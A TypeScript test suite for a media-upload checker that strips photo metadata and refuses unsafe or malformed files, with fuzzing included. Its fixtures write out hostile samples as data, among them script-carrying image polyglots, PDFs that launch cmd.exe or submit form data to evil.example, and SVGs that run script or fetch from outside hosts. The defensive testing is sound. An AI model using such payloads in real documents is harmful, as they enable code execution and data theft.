/** What a file is, its bytes say; what could harm is refused with its reason, and nothing but that is ever thrown. */
import fc from "fast-check";
import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { mp4, pdf, pdfWith, pdfWithStream, photograph, pngThatSays, webm } from "#tests/support/media-bytes";
import { checkPdf } from "~/features/content/check-pdf.server";
import { inspectFile } from "~/features/studio/media/inspect-file.server";
import { RefusedFile } from "~/features/studio/media/media-refusal";
import { readCaptions } from "~/features/studio/media/read-captions";
import { readMp4 } from "~/features/studio/media/read-mp4";
import { readWebm } from "~/features/studio/media/read-webm";

const plainPdf = await pdf();

const refusal = (bytes: Buffer | string) =>
  inspectFile(Buffer.from(bytes)).then(
    ({ mime }) => `taken as ${mime}`,
    (error: unknown) => (error instanceof RefusedFile ? error.code : error),
  );

const svg = (inside: string, head = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" ${head}>${inside}</svg>`;

describe("a photograph", () => {
  it("loses place, owner and everything else beside its points", async () => {
    const bytes = await photograph(900, 600);
    expect((await sharp(bytes).metadata()).exif?.toString("latin1")).toContain("CHU MAY TRAN VAN A");
    const { content, mime, width, height } = await inspectFile(bytes);
    expect({ mime, width, height }).toEqual({ mime: "image/jpeg", width: 900, height: 600 });
    expect(await sharp(content).metadata()).not.toHaveProperty("exif");
    expect(content.includes("CHU MAY")).toBe(false);
  });

  it("is turned as its camera held it, and never wider than lessons show", async () => {
    const turned = await sharp(await photograph(2000, 1000))
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const { width, height } = await inspectFile(turned);
    expect([width, height]).toEqual([1000, 2000]);
    expect((await inspectFile(await photograph(2000, 1000))).width).toBe(1280);
  });

  it("keeps what can be seen through, as PNG", async () => {
    const drawn = await sharp({ create: { width: 40, height: 40, channels: 4, background: "#ff000080" } })
      .webp()
      .toBuffer();
    expect((await inspectFile(drawn)).mime).toBe("image/png");
  });
});

describe("two files in one", () => {
  it.each([
    [
      "a JPEG with a page behind it",
      async () => Buffer.concat([await photograph(64, 64), Buffer.from("<html><script>x()</script>")]),
    ],
    [
      "a GIF that is also a script",
      async () => {
        const gif = await sharp({ create: { width: 32, height: 32, channels: 3, background: "red" } })
          .gif()
          .toBuffer();
        return Buffer.concat([gif, Buffer.from("/*<script>*/=1;x()")]);
      },
    ],
    [
      "a PNG with an archive behind it",
      async () => Buffer.concat([pngThatSays(40, 40), Buffer.from("PK\u0003\u0004<script>")]),
    ],
  ])("%s comes out as a picture alone", async (_, make) => {
    const { content, mime } = await inspectFile(await make());
    expect(mime).toMatch(/^image\/(jpeg|png)$/);
    expect(content.includes("<script>")).toBe(false);
  });
});

describe("what is refused", () => {
  it.each<[string, () => Buffer | string | Promise<Buffer>, string]>([
    ["nothing", () => "", "empty"],
    ["a page", () => "<!doctype html><script>x()</script>", "kind"],
    ["a script", () => "alert(1)", "kind"],
    ["a PDF with an archive", () => Buffer.from("%PDF-1.7\n\0PK\u0003\u0004"), "broken"],
    ["a PDF cut short", async () => (await pdf()).subarray(0, -40), "broken"],
    [
      "a PDF with an archive behind it",
      async () => Buffer.concat([await pdf(), Buffer.from("PK\u0003\u0004")]),
      "broken",
    ],
    ["a PDF that asks for a password", () => pdf({ userPassword: "mat-khau" }), "pdfLocked"],
    ["a PDF that runs a script", () => pdfWith("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), "pdfActive"],
    ["a PDF that hides the script's name", () => pdfWith("<< /S /J#61va#53cript /JS (x) >>"), "pdfActive"],
    ["a PDF that starts a program", () => pdfWith("<< /S /Launch /F (cmd.exe) >>"), "pdfActive"],
    [
      "a PDF that sends what is typed",
      () => pdfWith("<< /S /SubmitForm /F (https://evil.example) >>"),
      "pdfActive",
    ],
    ["a PDF that carries another file", () => pdf({ attached: "tep.exe" }), "pdfActive"],
    [
      "a PDF with its script in a packed stream",
      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/Type /ObjStm /N 1 /First 4"),
      "pdfActive",
    ],
    [
      "a PDF whose packed stream says that it is something else",
      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/N 1 /First 4"),
      "pdfActive",
    ],
    [
      "a PDF that hides where its packed stream begins",
      () => pdfWithStream("<< /S /JavaScript /JS (x) >>", "/Type /ObjStm /N 1 /X (1 0 obj) "),
      "broken",
    ],
    [
      "a PDF that swells",
      () => pdfWithStream("a".repeat(40 * 1024 * 1024), "/Type /ObjStm /N 1 /First 4"),
      "broken",
    ],
    ["a PDF of a hundred and one pages", () => pdf({ pages: 101 }), "pdfPages"],
    ["a PDF without a page", () => pdfWith("<< >>", "%PDF-1.7\n"), "broken"],
    ["1 × 30,000 points", () => pngThatSays(1, 30_000), "pixels"],
    ["30,000 × 1 points", () => pngThatSays(30_000, 1), "pixels"],
    ["100 million points in a small file", () => pngThatSays(9_999, 9_999), "pixels"],
    ["4 thousand million points", () => pngThatSays(65_000, 65_000), "pixels"],
    ["3 × 3 points", () => pngThatSays(3, 3), "small"],
    ["a photograph cut short", async () => (await photograph(400, 400)).subarray(0, 9_000), "broken"],
    ["an SVG with a script", () => svg("<script>x()</script>"), "svgActive"],
    ["an SVG with a page in it", () => svg("<foreignObject><b/></foreignObject>"), "svgActive"],
    ["an SVG that acts when touched", () => svg("<rect onclick='x()'/>"), "svgActive"],
    ["an SVG that fetches", () => svg('<image href="https://evil.example/a.png"/>'), "svgActive"],
    ["an SVG that fetches by style", () => svg("<style>@import 'https://evil.example'</style>"), "svgActive"],
    ["an SVG that swells", () => `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${svg("&a;")}`, "svgActive"],
    ["a clip cut short", () => mp4().subarray(0, 200_000), "broken"],
    [
      "a clip without its middle",
      () => Buffer.concat([mp4().subarray(0, 900), mp4().subarray(4_000)]),
      "broken",
    ],
    [
      "a WebM of noise",
      () => Buffer.concat([Buffer.from("1a45dfa3", "hex"), Buffer.alloc(64, 0x81)]),
      "broken",
    ],
    ["a Matroska that calls itself WebM", () => webm({ docType: "matroska" }), "kind"],
    ["a WebM of another codec", () => webm({ codec: "V_MPEGH/ISO/HEVC" }), "codec"],
    ["a clip of twenty minutes", () => webm({ seconds: 1_200 }), "long"],
    ["a clip as wide as a cinema", () => webm({ width: 7_680, height: 4_320 }), "pixels"],
    [
      "captions that end before they begin",
      () => "WEBVTT\n\n00:05.000 --> 00:01.000\nXin chào\n",
      "captions",
    ],
    ["captions of nobody", () => "WEBVTT\n\n", "captions"],
  ])("%s", async (_, make, code) => {
    expect(await refusal(await make())).toBe(code);
  });

  it("every length in a clip's boxes that is not true", async () => {
    const clip = mp4();
    for (const [at, length] of [
      [0, 0],
      [0, 7],
      [0, clip.length + 1],
      [clip.indexOf("moov") - 4, 0xffffffff],
      [clip.indexOf("moov") - 4, 9],
      [clip.indexOf("trak") - 4, 0x7fffffff],
      [clip.indexOf("stsd") - 4, 8],
      [clip.indexOf("mdat") - 4, 12],
    ] as const) {
      const lying = Buffer.from(clip);
      lying.writeUInt32BE(length, at);
      expect(await refusal(lying), `${length} at ${at}`).toBe("broken");
    }
  });
});

describe("what is taken", () => {
  it.each<[string, () => Buffer | string | Promise<Buffer>, string]>([
    ["an MP4", mp4, "taken as video/mp4"],
    ["a WebM", webm, "taken as video/webm"],
    ["a PDF to be read", () => pdf(), "taken as application/pdf"],
    ["a PDF of a hundred pages", () => pdf({ pages: 100 }), "taken as application/pdf"],
    ["a drawing", () => svg("<rect width='3' height='3'/>"), "taken as image/svg+xml"],
    [
      "captions",
      () => "\uFEFFWEBVTT\r\n\r\n1\r\n00:01.000 --> 00:02.000 align:start\r\nXin chào\r\n",
      "taken as text/vtt",
    ],
  ])("%s", async (_, make, taken) => {
    expect(await refusal(await make())).toBe(taken);
  });

  it("with what a clip says about itself", () => {
    expect(readMp4(mp4())).toMatchObject({ codecs: ["avc1"], width: expect.any(Number) });
    expect(readWebm(webm())).toEqual({ width: 640, height: 360, seconds: 12, codecs: ["V_VP9"] });
  });
});

describe("whatever bytes come", () => {
  const broken = (bytes: Buffer) =>
    fc
      .array(fc.tuple(fc.nat(Math.min(bytes.length, 60_000) - 1), fc.nat(255)), {
        minLength: 1,
        maxLength: 12,
      })
      .map((changes) => {
        const copy = Buffer.from(bytes);
        for (const [at, byte] of changes) copy[at] = byte;
        return copy;
      });
  const noise = fc.uint8Array({ maxLength: 400 }).map((bytes) => Buffer.from(bytes));
  const never = (read: (bytes: Buffer) => unknown) => (bytes: Buffer) => {
    try {
      read(bytes);
    } catch (error) {
      expect(error).toBeInstanceOf(RefusedFile);
    }
  };

  it.each<[string, (bytes: Buffer) => unknown, fc.Arbitrary<Buffer>]>([
    ["MP4", readMp4, fc.oneof(noise, broken(mp4()))],
    ["WebM", readWebm, fc.oneof(noise, broken(webm()))],
    ["PDF", (bytes) => checkPdf(bytes), fc.oneof(noise, broken(plainPdf))],
    [
      "captions",
      (bytes) => readCaptions(bytes.toString("utf8")),
      fc.oneof(noise, broken(Buffer.from("WEBVTT\n\n00:01.000 --> 00:02.000\nx\n"))),
    ],
  ])("%s is read or refused", (_, read, bytes) => {
    fc.assert(fc.property(bytes, never(read)), { numRuns: 400 });
  });

  it("a whole file is taken or refused", async () => {
    const picture = await photograph(48, 48);
    await fc.assert(
      fc.asyncProperty(fc.oneof(noise, broken(picture), broken(pngThatSays(40, 40))), async (bytes) => {
        await inspectFile(bytes).catch((error: unknown) => expect(error).toBeInstanceOf(RefusedFile));
      }),
      { numRuns: 120 },
    );
  });
});
